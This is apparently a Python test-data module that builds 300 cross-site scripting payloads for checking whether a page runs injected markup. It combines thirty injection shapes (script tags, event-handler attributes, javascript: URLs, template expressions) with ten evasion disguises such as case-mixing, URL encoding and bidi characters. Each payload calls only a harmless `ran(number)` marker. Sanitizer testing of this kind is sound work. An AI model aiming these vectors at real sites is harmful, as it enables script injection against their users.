"""Three hundred texts that would run a script where a page took a text for markup; each calls `ran(number)`."""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from urllib.parse import quote

SHAPES = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<iframe src="javascript:parent.{}"></iframe>',
    '<a href="javascript:{}" autofocus>x</a>',
    "javascript:{}",
    "[x](javascript:{})",
    "![x](x onerror={})",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<object data=x onerror={}></object>",
    '<embed src="javascript:{}">',
    "<body onload={}>",
    "<marquee onstart={}>",
    '<form action="javascript:{}"><button autofocus>x</button></form>',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "<style>@keyframes x{{}}</style><b style='animation:x 1s' onanimationstart={}>",
    "<link rel=stylesheet href=x onerror={}>",
    "<math><mtext><script>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "'-{}-'",
]
DISGUISES: list[Callable[[str], str]] = [
    lambda text: text,
    lambda text: "\"'></title></style></textarea></script>" + text,
    lambda text: text.replace("<", "<\n").replace("<\n/", "</"),
    lambda text: text.replace("<s", "<S").replace("<i", "<I").replace("on", "oN"),
    lambda text: escape(text),
    lambda text: quote(text),
    lambda text: quote(quote(text)),
    lambda text: "<!--" + text + "-->" + text,
    lambda text: "\u202e\u200b" + text,
    lambda text: "x" * 40 + "`" + text.replace(" ", "/"),
]


def vectors() -> list[str]:
    """Each shape in each disguise."""
    pairs = [(shape, disguise) for shape in SHAPES for disguise in DISGUISES]
    return [disguise(shape.format(f"ran({number})")) for number, (shape, disguise) in enumerate(pairs)]


def batches(size: int) -> list[str]:
    """The vectors in texts of at most `size` characters, each vector on a line; too long ones are left out."""
    texts = [""]
    for vector in vectors():
        if len(vector) >= size:
            continue
        if len(texts[-1]) + len(vector) + 1 > size:
            texts.append("")
        texts[-1] += vector + "\n"
    return texts
